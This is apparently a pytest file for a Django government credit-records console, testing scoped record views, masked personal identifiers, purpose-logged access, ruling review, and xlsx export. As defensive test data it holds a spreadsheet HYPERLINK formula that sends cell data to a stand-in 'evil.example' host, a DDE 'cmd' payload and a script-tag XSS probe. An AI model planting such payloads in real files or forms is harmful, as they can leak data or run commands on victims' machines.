"""Console pages: record search, archives (scope, access log, masking), rulings, the xlsx export."""

from __future__ import annotations

import datetime as dt
import io

from django.utils import timezone
from python_calamine import CalamineWorkbook
from registry.builders import SYSTEM

from govtrust.core.exports import neutralise, write_xlsx
from govtrust.core.models import AccessLog
from govtrust.records import services
from govtrust.records.models import FaultToleranceRuling, RulingStatus

from .conftest import record_kwargs

RECENT = timezone.localdate() - dt.timedelta(days=10)


def make_records(cast):  # type: ignore[no-untyped-def]
    xw = services.record_create(actor=SYSTEM, **record_kwargs(cast, decision_date=RECENT,
                                facts='=HYPERLINK("http://evil.example/?x="&A1,"点我")'))  # fmt: skip
    sz = services.record_create(
        actor=SYSTEM, **record_kwargs(cast, subject=cast.sz_finance, supplier=cast.sz_finance, decision_date=RECENT)
    )
    servant = services.record_create(
        actor=SYSTEM,
        **record_kwargs(
            cast, subject=cast.servant, record_class="discipline", severity="", sub_type="demerit", decision_date=RECENT
        ),  # fmt: skip
    )
    return xw, sz, servant


def read_xlsx(content: bytes) -> list[list[str]]:
    return CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()


def test_the_record_list_is_scoped_and_filtered(cast, client):  # type: ignore[no-untyped-def]
    xw, sz, servant = make_records(cast)
    client.force_login(cast.city_user)  # Nanjing credit office: Nanjing bodies and their staff
    html = client.get("/console/records/").content.decode()
    assert xw.number in html and servant.number in html and sz.number not in html
    assert "张*丰" in html and "张三丰" not in html
    filtered = client.get("/console/records/", {"record_class": "discipline"}).content.decode()
    assert servant.number in filtered and xw.number not in filtered
    client.force_login(cast.norole_user)
    assert client.get("/console/records/").status_code == 403


def test_the_agency_archive_shows_window_provenance_history_and_is_404_outside_scope(cast, client):  # type: ignore[no-untyped-def]
    xw, sz, _servant = make_records(cast)
    services.record_correct(actor=SYSTEM, record=xw, changes={"content": "警告"}, reason="内容有误")
    client.force_login(cast.xw_user)
    response = client.get(f"/console/archive/agency/{cast.xw_edu.uscc}/")
    html = response.content.decode()
    assert response.status_code == 200
    assert xw.number in html and "暂定" not in html  # Order 36 is confirmed
    old = services.record_create(actor=SYSTEM, **record_kwargs(cast, document_number="宁罚〔2025〕99号"))
    assert old.rule_version == "ndrc-58" and old.rule_provisional
    assert "暂定" in client.get(f"/console/archive/agency/{cast.xw_edu.uscc}/").content.decode()
    assert "内容有误" in html and "v1" in html and "工作台录入" in html
    assert client.get(f"/console/archive/agency/{cast.sz_finance.uscc}/").status_code == 404
    assert client.get(f"/console/records/{sz.number}/").status_code == 404
    detail = client.get(f"/console/records/{xw.number}/").content.decode()
    assert "内容有误" in detail and xw.rule_version in detail


def test_the_registry_page_links_to_the_archive(cast, client):  # type: ignore[no-untyped-def]
    client.force_login(cast.prov_user)
    html = client.get(f"/console/agencies/{cast.xw_edu.uscc}/").content.decode()
    assert f"/console/archive/agency/{cast.xw_edu.uscc}/" in html


def test_a_personal_archive_asks_for_a_purpose_and_logs_each_read_with_masked_identifiers(cast, client):  # type: ignore[no-untyped-def]
    _xw, _sz, servant = make_records(cast)
    client.force_login(cast.city_user)
    url = f"/console/archive/person/civil-servant/{cast.servant.pk}/"
    first = client.get(url)
    assert first.status_code == 200 and "查询用途" in first.content.decode()
    assert not AccessLog.objects.exists()
    assert client.get(url, {"purpose": "curiosity"}).content.decode().count("查询用途") >= 1
    assert not AccessLog.objects.exists()
    html = client.get(url, {"purpose": "personnel"}).content.decode()
    assert servant.number in html and cast.servant.id_number_masked in html
    assert "张三丰" not in html and cast.servant.decrypt_id_number() not in html
    [log] = AccessLog.objects.all()
    assert log.subject_type == "registry.civilservant" and log.subject_id == str(cast.servant.pk)
    assert "公务员录用" in log.purpose
    export = client.get(url + "export.xlsx", {"purpose": "audit"})
    assert export.status_code == 200 and AccessLog.objects.count() == 2
    # Persons are visible only with an "all" scope; a city office gets 404, the province sees them.
    assert client.get(f"/console/archive/person/person/{cast.person.pk}/", {"purpose": "audit"}).status_code == 404
    client.force_login(cast.sz_user)
    assert client.get(url, {"purpose": "audit"}).status_code == 404
    client.force_login(cast.prov_user)
    assert client.get(f"/console/archive/person/person/{cast.person.pk}/", {"purpose": "audit"}).status_code == 200


def test_a_personal_record_detail_also_needs_a_purpose(cast, client):  # type: ignore[no-untyped-def]
    _xw, _sz, servant = make_records(cast)
    client.force_login(cast.city_user)
    assert "查询用途" in client.get(f"/console/records/{servant.number}/").content.decode()
    assert not AccessLog.objects.exists()
    client.get(f"/console/records/{servant.number}/", {"purpose": "objection"})
    assert AccessLog.objects.count() == 1


def test_the_xlsx_export_neutralises_formulas(cast, client):  # type: ignore[no-untyped-def]
    xw, _sz, _servant = make_records(cast)
    client.force_login(cast.city_user)
    response = client.get(f"/console/archive/agency/{cast.xw_edu.uscc}/export.xlsx")
    assert response.status_code == 200
    rows = read_xlsx(response.content)
    assert rows[0][0] == "记录编号" and rows[1][0] == xw.number
    facts = rows[1][11]
    assert facts.startswith("'=HYPERLINK(")
    listing = read_xlsx(client.get("/console/records/export.xlsx").content)
    assert len(listing) == 3  # header + the two Nanjing records; Suzhou's is out of scope


def test_the_shared_writer_prefixes_every_formula_trigger() -> None:
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1"):
        assert neutralise(text) == "'" + text
    assert neutralise("正常文本") == "正常文本"
    rows = read_xlsx(write_xlsx(["=h"], [["=cmd|' /C calc'!A0"]], sheet_title="=bad"))
    assert rows == [["'=h"], ["'=cmd|' /C calc'!A0"]]


def test_discipline_departments_record_rulings_and_the_credit_office_checks_them(cast, client):  # type: ignore[no-untyped-def]
    xw, _sz, _servant = make_records(cast)
    client.force_login(cast.discipline_user)
    response = client.post(
        "/console/fault-tolerance/new/",
        {
            "number": "玄纪容〔2026〕9号",
            "decision_date": timezone.localdate().isoformat(),
            "subject_kind": "agency",
            "subject_code": cast.xw_edu.uscc,
            "grounds": "<script>alert(1)</script>",
            "conduct_description": "延期支付",
            "document_numbers": xw.document_number,
        },
    )
    ruling = FaultToleranceRuling.objects.get()
    assert response.status_code == 302 and ruling.authority == cast.xw_gov
    page = client.get(f"/console/fault-tolerance/{ruling.pk}/").content.decode()
    assert "&lt;script&gt;" in page and "提交核对结论" not in page  # the department cannot check its own ruling
    assert client.post(f"/console/fault-tolerance/{ruling.pk}/", {"decision": "accept"}).status_code == 403
    # A body outside the department's scope cannot be named.
    bad = client.post("/console/fault-tolerance/new/", {"number": "x2", "decision_date": "2026-01-01",
                      "subject_kind": "agency", "subject_code": cast.sz_finance.uscc, "grounds": "g",
                      "conduct_description": "c", "document_numbers": "d"})  # fmt: skip
    assert bad.status_code == 200 and FaultToleranceRuling.objects.count() == 1
    client.force_login(cast.city_user)
    assert ruling.number in client.get("/console/fault-tolerance/review/").content.decode()
    assert "提交核对结论" in client.get(f"/console/fault-tolerance/{ruling.pk}/").content.decode()
    client.post(f"/console/fault-tolerance/{ruling.pk}/", {"decision": "accept", "reason": "符合"})
    ruling.refresh_from_db()
    xw.refresh_from_db()
    assert ruling.status == RulingStatus.IN_EFFECT and xw.covered_by == ruling
    archive = client.get(f"/console/archive/agency/{cast.xw_edu.uscc}/").content.decode()
    assert ruling.number in archive and "容错免予认定" in archive
    client.force_login(cast.sz_user)
    assert client.get(f"/console/fault-tolerance/{ruling.pk}/").status_code == 404


def test_menu_entries_follow_the_grants(cast, client):  # type: ignore[no-untyped-def]
    client.force_login(cast.discipline_user)
    html = client.get("/console/").content.decode()
    # The discipline department records rulings but does not check them (the credit office does).
    assert 'href="/console/fault-tolerance/"' in html and "信用记录" in html
    assert 'href="/console/fault-tolerance/review/"' not in html
    client.force_login(cast.norole_user)
    html = client.get("/console/").content.decode()
    # Only the records menu is meant here: every user has 我的信用记录 (remedies, their own records).
    assert 'href="/console/records/"' not in html and "报送覆盖" not in html


def test_a_user_with_the_all_scope_sees_every_record_and_ruling(cast, client):  # type: ignore[no-untyped-def]
    # Regression: an "everything" scope is an empty Q(), which is falsy; it once filtered to nothing.
    from govtrust.records.models import CreditRecord, FaultToleranceRuling

    assert cast.prov_user.data_scope("records.view") == "all"
    make_records(cast)
    assert CreditRecord.objects.visible_to(cast.prov_user).count() == CreditRecord.objects.count() == 3
    assert FaultToleranceRuling.objects.visible_to(cast.prov_user).count() == FaultToleranceRuling.objects.count()
    client.force_login(cast.prov_user)
    assert "共 3 条" in client.get("/console/records/").content.decode()


def test_the_home_page_counts_published_records_in_the_users_scope(cast, client):  # type: ignore[no-untyped-def]
    import re

    from govtrust.records.models import CreditRecord

    make_records(cast)
    client.force_login(cast.prov_user)
    html = client.get("/console/").content.decode()
    figure = re.search(r'<div class="n">([\d,]+)</div>\s*公示期内的政务失信记录', html)
    assert figure and int(figure.group(1)) == CreditRecord.objects.published().count() == 2  # not the servant's
